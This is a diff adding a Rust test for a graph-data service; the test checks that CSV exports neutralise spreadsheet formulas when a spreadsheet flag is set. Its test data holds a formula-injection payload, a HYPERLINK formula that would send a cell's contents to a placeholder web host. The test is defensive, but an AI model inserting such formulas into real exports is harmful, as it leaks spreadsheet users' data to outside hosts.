@@ -1,6 +1,8 @@
 //! Exports for programs that draw.
 
-use super::case::{Who, case};
+use super::case::{Case, Who, case};
+use crate::known::{CLEAR, import};
+use fieldmark_store::sparql::Limits;
 
 #[tokio::test]
 async fn a_graph_holds_what_its_caller_may_see_and_the_ends_of_every_edge() {
@@ -70,4 +72,34 @@ async fn a_layer_shows_the_techniques_of_a_campaign_and_lists_what_will_not_show
         (&attack["versions"]["layer"], &attack["domain"]),
         (&"4.5".into(), &"disarm".into())
     );
+}
+
+#[tokio::test]
+async fn a_table_for_a_spreadsheet_runs_nothing_and_says_what_was_guarded() {
+    let case = Case::with(Limits::default());
+    let formula = "=HYPERLINK(\\\"http://example.org/?\\\"&A1)";
+    let id = "campaign--00000000-0000-4000-8000-000000002102";
+    let text = format!(
+        "id:{id} a stix:Campaign ; skos:prefLabel \"{formula}\"@en ; stix:first_seen \"2021\"^^<http://id.loc.gov/datatypes/edtf/EDTF> ."
+    );
+    import(&case, CLEAR, &text).await;
+    for path in [
+        format!("export?format=csv-nodes&of={id}"),
+        format!("queries/timeline.csv?subject={id}"),
+    ] {
+        let exact = case.get(Who::Public, &format!("/api/v1/{path}")).await;
+        assert!(exact.text().contains("\"=HYPERLINK("), "{}", exact.text());
+        assert_eq!(exact.header("fieldmark-guarded"), "");
+        let path = format!("/api/v1/{path}&spreadsheet=true");
+        let guarded = case.get(Who::Public, &path).await;
+        assert!(
+            guarded.text().contains("\"'=HYPERLINK("),
+            "{}",
+            guarded.text()
+        );
+        assert!(!guarded.text().contains("\"=HYPERLINK("));
+        assert_eq!(guarded.header("fieldmark-guarded"), "1");
+        assert!(guarded.header("content-type").starts_with("text/csv"));
+        assert_eq!(guarded.text().replace("\"'=", "\"="), exact.text());
+    }
 }
